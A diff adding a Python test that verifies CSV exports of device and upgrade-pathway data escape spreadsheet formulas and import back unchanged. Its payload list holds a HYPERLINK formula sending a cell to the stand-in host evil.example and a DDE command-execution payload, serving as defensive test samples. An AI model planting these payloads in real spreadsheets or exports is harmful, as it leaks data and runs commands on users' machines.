@@ -290,3 +290,61 @@ async def test_subscribers_hear_of_every_imported_change(db) -> None:
     assert len(heard) == 3 + 9 + 1
     assert heard == result.event_ids
     assert heard == sorted(heard)
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "-2+3",
+    "'=already quoted once",
+]
+
+
+async def test_would_be_formulas_are_exported_escaped_and_import_back_as_they_were(
+    db, own_database, tmp_path
+) -> None:
+    """OWASP's CSV injection rule: a cell a spreadsheet would run is written behind a `'`,
+    and the import removes that one `'`."""
+    source = Database(own_database, tmp_path / "source-data")
+    engine = create_engine(own_database)
+    try:
+        async with engine.begin() as connection:
+            for n, formula in enumerate(FORMULAS, start=1):
+                await connection.execute(
+                    text("UPDATE device SET model_name = :v WHERE id = :id"),
+                    {"v": formula, "id": n},
+                )
+                await connection.execute(  # the n-th pathway an export holds
+                    text(
+                        "UPDATE upgrade_pathway SET notes = :v WHERE id = (SELECT p.id "
+                        "FROM upgrade_pathway p JOIN firmware f ON f.id = p.to_firmware_id "
+                        "WHERE p.status = 'PUBLISHED' AND f.status = 'ACTIVE' "
+                        "ORDER BY p.id LIMIT 1 OFFSET :n)"
+                    ),
+                    {"v": formula, "n": n},
+                )
+    finally:
+        await engine.dispose()
+    files = {}
+    for what in ("devices", "pathways"):
+        files[what] = tmp_path / f"{what}.csv"
+        assert source.cli("export", what, "--output", files[what]).returncode == 0
+        written = files[what].read_text()
+        for formula in FORMULAS:
+            assert f"'{formula}" in written.replace('""', '"')
+        for line in written.splitlines():
+            for cell in line.split(","):
+                assert not cell.lstrip('"').startswith(("=", "+", "@", "-"))
+    for what in ("devices", "pathways"):
+        result = db.cli("import", files[what])
+        assert result.returncode == 0, result.stdout + result.stderr
+    for formula in FORMULAS:
+        quoted = formula.replace("'", "''")
+        assert await db.scalar(f"SELECT count(*) FROM device WHERE model_name = '{quoted}'") == 1  # noqa: S608
+        assert (
+            await db.scalar(f"SELECT count(*) FROM upgrade_pathway WHERE notes = '{quoted}'")  # noqa: S608
+            == 1
+        )
+    for what in ("devices", "pathways"):
+        assert db.cli("export", what).stdout == files[what].read_text()
